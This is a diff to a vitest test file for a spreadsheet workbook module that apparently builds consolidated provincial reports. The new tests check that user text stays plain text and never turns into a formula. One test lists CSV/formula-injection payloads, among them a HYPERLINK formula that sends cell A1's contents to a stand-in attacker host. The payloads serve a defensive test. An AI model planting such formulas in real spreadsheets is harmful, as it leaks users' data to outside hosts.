@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { getTemplate } from '../../../shared/templates';
-import { buildTemplateSheet, cellName, sheetMetadataFor } from '../../../shared/workbook';
+import { demoProvinceConsolidations } from '../../../shared/demo/province';
+import { parsePeriod } from '../../../shared/periods';
+import { buildTemplateSheet, cellName, consolidatedWorkbook, sheetMetadataFor } from '../../../shared/workbook';
 import { checkGrid } from '../check';
 import { MemoryWorkbook, excelEntry } from './memory-workbook';
 
@@ -13,6 +15,8 @@ describe('typing as Excel reads it in Vietnamese settings', () => {
     ['hơn 5.092', '#,##0', 'hơn 5.092'],
     ['', '#,##0', null],
     ['=1+1', undefined, '=1+1'],
+    ['-5', undefined, -5],
+    ['=1+1', '@', '=1+1'],
   ])('%s in a cell formatted %s holds %s', (text, format, expected) => {
     expect(excelEntry(text, format)).toBe(expected);
   });
@@ -33,6 +37,35 @@ describe('the in-memory workbook', () => {
     const [check] = checkGrid(read.grid, 'BM03', { names: read.names, period: '2024-H1' });
     expect(check!.report.errors.map((e) => e.code)).toEqual(['part_exceeds_whole']);
     await expect(wb.writeSheets([buildTemplateSheet(bm03)], [])).rejects.toThrow('đã có trang');
+  });
+
+  it('takes a string written into a General cell as a formula, as Excel does, and into a text cell as text', () => {
+    const wb = new MemoryWorkbook();
+    wb.apply({ op: 'values', sheet: 'Sheet1', row: 0, col: 0, matrix: [['=1+1', '-A1', '-5']] });
+    expect([0, 1].map((c) => wb.cell('Sheet1', 0, c)?.formula)).toEqual(['=1+1', '-A1']);
+    expect(wb.value('Sheet1', 0, 2)).toBe(-5);
+    wb.apply({ op: 'numberFormat', sheet: 'Sheet1', row: 1, col: 0, matrix: [['@']] });
+    wb.apply({ op: 'values', sheet: 'Sheet1', row: 1, col: 0, matrix: [['=1+1']] });
+    expect(wb.cell('Sheet1', 1, 0)).toMatchObject({ value: '=1+1' });
+    expect(wb.cell('Sheet1', 1, 0)?.formula).toBeUndefined();
+  });
+
+  it('never turns user text into a formula: notes, names and labels in consolidated sheets stay text', async () => {
+    const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', '+1+1', '-A1', '@SUM(A1)', '\t=1+1'];
+    const period = parsePeriod('2024-H1')!;
+    const [c] = demoProvinceConsolidations('2024-H1', [getTemplate('BM03')!]);
+    // A clerk's note, a unit's name and an explanation of a warning, as hostile as they come.
+    const units = c!.units.map((u, i) => ({ ...u, name: hostile[i % hostile.length]!, values: { ...u.values, 'TT01.GC': hostile[(i + 1) % hostile.length]! } }));
+    const openWarnings = hostile.map((note, i) => ({ unit: c!.units[i]!.code, code: 'jump', cells: ['TT01.KQ'], message: 'Biến động lớn', note }));
+    const completeness = { ...c!.completeness, openWarnings };
+    const model = consolidatedWorkbook({ province: 'Đắk Lắk', period, generatedAt: '2024-06-30T00:00:00Z', engineVersion: '1.0.0', consolidations: [{ ...c!, units, completeness }] });
+    const wb = new MemoryWorkbook();
+    // As DIC's pull writes them: the visible sheets, with their metadata.
+    await wb.writeSheets(model.sheets.filter((s) => s.visibility !== 'veryHidden'), model.metadata, model.charts);
+    const formulas = wb.sheets.flatMap((s) => [...s.cells.values()].filter((cell) => cell.formula !== undefined));
+    const texts = wb.sheets.flatMap((s) => [...s.cells.values()].map((cell) => cell.value).filter((v) => typeof v === 'string'));
+    expect(formulas).toEqual([]);
+    for (const h of hostile) expect(texts).toContain(h);
   });
 
   it('marks and clears highlights', async () => {
